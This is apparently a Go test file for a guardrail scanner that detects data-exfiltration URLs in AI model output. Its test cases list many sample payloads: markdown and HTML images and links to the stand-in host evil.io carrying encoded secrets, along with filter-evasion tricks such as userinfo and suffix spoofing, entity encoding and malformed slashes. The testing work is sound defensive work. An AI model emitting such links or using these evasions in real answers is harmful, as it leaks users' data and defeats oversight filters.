package exfil_test

import (
	"context"
	"sort"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwark-ai/bulwark/internal/guard"
	"github.com/bulwark-ai/bulwark/internal/scanner/exfil"
)

type hit struct {
	Type string
	URL  string
}

var scanTests = []struct {
	name string
	text string
	want []hit
}{
	{"plain prose", "No links here, just a.b and //comment", nil},
	{"allowed image", "![logo](https://cdn.example.com/logo.png)", nil},
	{"allowed subdomain link", "see [docs](https://docs.example.com/x?y=1234567890123)", nil},
	{"image to attacker", "![a](https://evil.io/p.png?d=c2VjcmV0LXZhbHVl)", []hit{{exfil.TypeImage, "https://evil.io/p.png?d=c2VjcmV0LXZhbHVl"}}},
	{"image angle brackets and title", `![](<https://evil.io/x.png> "t")`, []hit{{exfil.TypeImage, "https://evil.io/x.png"}}},
	{"image nested brackets", "![a [b] c](http://evil.io/i)", []hit{{exfil.TypeImage, "http://evil.io/i"}}},
	{"protocol relative image", "![x](//evil.io/t.gif)", []hit{{exfil.TypeImage, "//evil.io/t.gif"}}},
	{"html img", `<img alt="x" src="https://evil.io/a.png">`, []hit{{exfil.TypeImage, "https://evil.io/a.png"}}},
	{"reference definition", "![x][r]\n\n[r]: https://evil.io/a.png", []hit{{exfil.TypeImage, "https://evil.io/a.png"}}},
	{"link with data", "[click](https://evil.io/c?session=abcdef1234567890)", []hit{{exfil.TypeQuery, "https://evil.io/c?session=abcdef1234567890"}}},
	{"bare url with data", "Go to http://evil.io/?q=my%20password%20is%20hunter2.", []hit{{exfil.TypeQuery, "http://evil.io/?q=my%20password%20is%20hunter2"}}},
	{"bare url no data", "Read https://news.site/today, then rest.", []hit{{exfil.TypeLink, "https://news.site/today"}}},
	{"userinfo trick", "![x](https://example.com@evil.io/a.png)", []hit{{exfil.TypeImage, "https://example.com@evil.io/a.png"}}},
	{"userinfo with password trick", "![x](https://cdn.example.com:hunter2@evil.io/a.png)", []hit{{exfil.TypeImage, "https://cdn.example.com:hunter2@evil.io/a.png"}}},
	{"suffix trick", "![x](https://example.com.evil.io/a.png)", []hit{{exfil.TypeImage, "https://example.com.evil.io/a.png"}}},
	{"uppercase host and port", "![x](HTTPS://CDN.EXAMPLE.COM:443/a.png) ![y](https://Evil.IO:8443/b)", []hit{{exfil.TypeImage, "https://Evil.IO:8443/b"}}},
	{"long link text is treated as image", "[" + strings.Repeat("x", 200) + "](https://evil.io/a)", []hit{{exfil.TypeImage, "https://evil.io/a"}}},
	{"href", `<a href='https://evil.io/a'>x</a>`, []hit{{exfil.TypeLink, "https://evil.io/a"}}},
	{"srcset second url", `<img srcset="a.png 1x, https://evil.io/b.png 2x">`, []hit{{exfil.TypeImage, "https://evil.io/b.png"}}},
	{"css url", `<div style="background:url('https://evil.io/c.png')">`, []hit{{exfil.TypeImage, "https://evil.io/c.png"}}},
	{"anchor text url", `<a title="x" href="/" data-x="https://evil.io/d">`, []hit{{exfil.TypeLink, "https://evil.io/d"}}},
	{"closed tag then prose", `<b>bold</b> see https://evil.io/e`, []hit{{exfil.TypeLink, "https://evil.io/e"}}},
	{"entity-encoded image", "![x](https:&#x2F;&#x2F;evil.io/p.png)", []hit{{exfil.TypeImage, "https:&#x2F;&#x2F;evil.io/p.png"}}},
	{"backslash-escaped image", `![x](https:\/\/evil.io/p.png)`, []hit{{exfil.TypeImage, `https:\/\/evil.io/p.png`}}},
	{"entity in html src", `<img src="https&#58;//evil.io/a.png">`, []hit{{exfil.TypeImage, "//evil.io/a.png"}}},
	{"entity in markdown image scheme", `![x](https&#58;&#47;&#47;evil.io/a.png)`, []hit{{exfil.TypeImage, "https&#58;&#47;&#47;evil.io/a.png"}}},
	{"newline in html src", "<img src=\"ht\ntps://evil.io/a.png\">", []hit{{exfil.TypeImage, "//evil.io/a.png"}}},
	{"newline in html href", "<p><a href=\"ht\ntps://evil.io/a?q=1\">", []hit{{exfil.TypeLink, "//evil.io/a?q=1"}}},
	{"encoded but allowed", "![x](https:&#x2F;&#x2F;cdn.example.com/p.png)", nil},
	// Browsers read '\\' as '/' in http(s) URLs and add missing slashes
	// after the scheme when the page's scheme differs.
	{"backslashes in html src", `<img src="https:\\evil.io/x.png">`, []hit{{exfil.TypeImage, `https:\\evil.io/x.png`}}},
	{"escaped backslashes in markdown image", `![x](https:\\\\evil.io/x.png)`, []hit{{exfil.TypeImage, `https:\\\\evil.io/x.png`}}},
	{"mixed slashes in html src", `<img src="https:/\evil.io/x.png">`, []hit{{exfil.TypeImage, `https:/\evil.io/x.png`}}},
	{"no slashes in html src", `<img src="https:evil.io/x.png">`, []hit{{exfil.TypeImage, `https:evil.io/x.png`}}},
	{"one slash in markdown image", `![x](https:/evil.io/x.png)`, []hit{{exfil.TypeImage, `https:/evil.io/x.png`}}},
	{"backslashes but allowed", `<img src="https:\\cdn.example.com/x.png">`, nil},
	{"relative path", "![x](img//a.png) [y](a&amp;b)", nil},
}

func newScanner() *exfil.Scanner {
	return exfil.New(exfil.Config{AllowDomains: []string{"example.com", " *.trusted.org "}})
}

func scan(t testing.TB, s *exfil.Scanner, text string) []guard.Finding {
	fs, err := s.Scan(context.Background(), guard.Input{Stage: guard.StageOutput, Source: guard.SourceOutput, Text: text, Request: &guard.Request{}})
	if err != nil {
		t.Fatalf("Scan(%q): %v", text, err)
	}
	return fs
}

func TestScan(t *testing.T) {
	s := newScanner()
	for _, tt := range scanTests {
		t.Run(tt.name, func(t *testing.T) {
			var got []hit
			for _, f := range scan(t, s, tt.text) {
				got = append(got, hit{f.Type, tt.text[f.Start:f.End]})
				if f.Replacement != exfil.DefaultMarker {
					t.Errorf("Scan(%q) replacement = %q; want %q", tt.text, f.Replacement, exfil.DefaultMarker)
				}
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Scan(%q) (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}

// TestScanAdversarialSize: texts built to make every link destination run
// to the end of the text (many "](" and no ')') or to have very many
// links. Each took the scanner minutes (quadratic); the encoded link at the
// end must still be found.
func TestScanAdversarialSize(t *testing.T) {
	s := newScanner()
	const tail = " ![x](https:&#x2F;&#x2F;evil.io/a.png)"
	tests := []struct {
		name string
		text string
		want int // findings
	}{
		{"open destinations", strings.Repeat("](", 200000) + tail, 1},
		{"many links", strings.Repeat("[a](https://evil.io/x) ", 20000) + tail, 20001},
		{"many encoded links", strings.Repeat("[a](https:&#x2F;&#x2F;evil.io) ", 20000) + tail, 20001},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := scan(t, s, tt.text)
			if len(fs) != tt.want {
				t.Fatalf("Scan(%d bytes) = %d findings; want %d", len(tt.text), len(fs), tt.want)
			}
			if last := fs[len(fs)-1]; tt.text[last.Start:last.End] != "https:&#x2F;&#x2F;evil.io/a.png" {
				t.Errorf("Scan(%d bytes) last finding = %q; want the encoded image URL", len(tt.text), tt.text[last.Start:last.End])
			}
		})
	}
}

func TestNeutralizedThroughPipeline(t *testing.T) {
	p := guard.NewPipeline(guard.Rule{Scanner: newScanner(), Output: true, Default: guard.ActionRedact})
	out, err := p.Begin(guard.Request{}).CheckOutput(context.Background(), "Done! ![status](https://evil.io/s.png?d=secret-data-here)")
	if err != nil {
		t.Fatal(err)
	}
	if want := "Done! ![status](bulwark:blocked-url)"; out != want {
		t.Errorf("CheckOutput = %q; want %q", out, want)
	}
}

// neutralize applies every finding's replacement.
func neutralize(text string, fs []guard.Finding) string {
	sort.Slice(fs, func(i, j int) bool { return fs[i].Start < fs[j].Start })
	var b strings.Builder
	last := 0
	for _, f := range fs {
		if f.Start < last {
			continue
		}
		b.WriteString(text[last:f.Start])
		b.WriteString(f.Replacement)
		last = f.End
	}
	b.WriteString(text[last:])
	return b.String()
}

// FuzzScan checks that findings are well-formed and that neutralized text
// has no exfiltration link left.
func FuzzScan(f *testing.F) {
	for _, tt := range scanTests {
		f.Add(tt.text)
	}
	s := newScanner()
	f.Fuzz(func(t *testing.T, text string) {
		fs := scan(t, s, text)
		for _, fd := range fs {
			if fd.Start < 0 || fd.End > len(text) || fd.Start >= fd.End {
				t.Fatalf("Scan(%q) finding span [%d,%d) out of range", text, fd.Start, fd.End)
			}
			if utf8.ValidString(text) && (!utf8.ValidString(text[:fd.Start]) || !utf8.ValidString(text[fd.End:])) {
				t.Fatalf("Scan(%q) finding [%d,%d) splits a rune", text, fd.Start, fd.End)
			}
		}
		again := neutralize(text, fs)
		for _, fd := range scan(t, s, again) {
			if fd.Type == exfil.TypeImage {
				t.Fatalf("neutralized %q -> %q still has %s at [%d,%d)", text, again, fd.Type, fd.Start, fd.End)
			}
		}
	})
}

func TestHost(t *testing.T) {
	tests := map[string]string{
		"https://a.b/c":           "a.b",
		"//X.Y.:80/":              "x.y",
		"http://u:p@h.io:1?x":     "h.io",
		"https://a.com#frag@b.io": "a.com",
		"nohost":                  "",
		"https://a.com:12345678":  "a.com:12345678",
		"https://a.com:pw":        "a.com:pw",
	}
	for in, want := range tests {
		if got := exfil.Host(in); got != want {
			t.Errorf("Host(%q) = %q; want %q", in, got, want)
		}
	}
}

// BenchmarkScan4K scans a 4 KB answer with a few links in it.
func BenchmarkScan4K(b *testing.B) {
	para := "Here is the summary you asked for, with sources. See https://docs.example.com/runbooks and " +
		"[the report](https://reports.example.net/q3?id=42) for details; the chart is ![c](https://cdn.example.com/c.png). "
	text := strings.Repeat(para, 4096/len(para)+1)[:4096]
	s := newScanner()
	in := guard.Input{Stage: guard.StageOutput, Source: guard.SourceOutput, Text: text, Request: &guard.Request{}}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := s.Scan(context.Background(), in); err != nil {
			b.Fatal(err)
		}
	}
}
